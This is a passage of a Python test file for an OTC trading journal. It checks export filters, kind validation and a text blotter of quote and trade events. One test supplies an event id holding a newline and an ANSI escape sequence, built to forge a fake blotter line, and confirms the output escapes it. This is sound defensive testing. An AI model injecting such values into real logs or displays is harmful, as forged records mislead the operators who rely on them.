            for kinds in (None, ["fill"], ["rfq", "reject", "accept"], []):
                filters = {"client": client, "symbol": symbol, "kinds": kinds}
                out = io.StringIO()
                export(path, "json", out, **filters)  # type: ignore[arg-type]
                shown = recent(path, limit=100, **filters)  # type: ignore[arg-type]
                assert [d["id"] for d in json.loads(out.getvalue())] == [r.id for r in shown]
                file = tmp_path / "filtered.json"
                assert export_file(path, "json", file, **filters) == len(shown)  # type: ignore[arg-type]
                assert file.read_text() == out.getvalue()


def test_an_unknown_kind_is_refused_before_anything_is_written(recorded: Path) -> None:
    # recent() matched nothing for a misspelt kind ("fills"); the export would have too.
    out = io.StringIO()
    with pytest.raises(ValueError, match=r"unknown kind 'fills'; expected one of \['accept'"):
        export(recorded, "csv", out, kinds=["fill", "fills"])
    assert out.getvalue() == ""
    with pytest.raises(ValueError, match="unknown kind 'fills'"):
        recent(recorded, kinds=["fills"])


async def test_blotter(path: Path) -> None:
    await record(path, list(session()))
    table = format_blotter(recent(path, symbol="BTC-USDT"))
    lines = table.splitlines()
    assert lines[0].split() == [
        "time", "(UTC)", "kind", "client", "symbol", "side", "qty", "price",
        "rfq_id", "quote_id", "trade_id", "detail",
    ]  # fmt: skip
    assert len(lines) == 5
    assert lines[1].split() == [
        "2023-11-14", "22:13:20.000", "rfq", "client-a", "BTC-USDT", "buy", "2.5", "r1"
    ]  # fmt: skip
    assert lines[2].split() == [
        "2023-11-14", "22:13:20.001", "quote", "client-a", "BTC-USDT", "buy", "2.5",
        "ask", "64010.5", "r1", "q1",
    ]  # fmt: skip
    assert lines[3].split() == [
        "2023-11-14",
        "22:13:20.002",
        "accept",
        "client-a",
        "BTC-USDT",
        "q1",
    ]
    assert lines[4].split() == [
        "2023-11-14", "22:13:20.003", "fill", "client-a", "BTC-USDT", "buy", "2.5", "64010.5",
        "r1", "q1", "t1",
    ]  # fmt: skip
    # Columns line up: every row's kind starts where the header's does.
    column = lines[0].index("kind")
    assert all(
        line[column:].startswith(("kind", "rfq", "quote", "accept", "fill")) for line in lines
    )

    other = format_blotter(recent(path, client="client-b")).splitlines()
    assert other[1].endswith("notional 5000000")
    assert other[2].endswith('LIMIT_EXCEEDED: daily notional 5000000 > 1000000, "client-b"')
    control = format_blotter(recent(path, kinds=["control"])).splitlines()
    assert control[1].endswith("action=halt halted=True symbol=ETH-USDT")
    assert format_blotter(recent(path, client="nobody")) == "no events\n"


def test_blotter_shows_both_sides_of_a_two_way_quote() -> None:
    row = JournalRow(
        id=1,
        ts_ns=T0,
        recorded_ns=T0,
        kind="quote",
        client="client-a",
        symbol="BTC-USDT",
        rfq_id="r1",
        quote_id="q1",
        trade_id="",
        payload={"side": "two_way", "qty": "1", "bid": "63990", "ask": "64010"},
    )
    assert "bid 63990 / ask 64010" in format_blotter([row])


async def test_the_blotter_escapes_control_characters(path: Path) -> None:
    # An id holding a newline and an ANSI escape printed a forged line of the blotter.
    forged = "a\n\x1b[31mFAKE"
    await record(path, [JournalEvent("rfq", "client-a", T0, rfq_id=forged, payload={})])
    text = format_blotter(recent(path))
    assert len(text.splitlines()) == 2
    assert "a\\n\\x1b[31mFAKE" in text


def test_readers_refuse_a_kind_the_engine_does_not_write(tmp_path: Path) -> None:
    file = tmp_path / "otc.db"
    with closing(sqlite3.connect(file)) as conn, conn:
        conn.executescript(otc.journal._SCHEMA)
        conn.execute(
            "INSERT INTO events (ts_ns, recorded_ns, kind, client, payload)"
            " VALUES (?, ?, 'FILL', 'client-a', '{}')",
            (T0, T0),
        )
    with pytest.raises(JournalError, match="event 1: kind: 'FILL' is not a kind the engine writes"):
        recent(file)
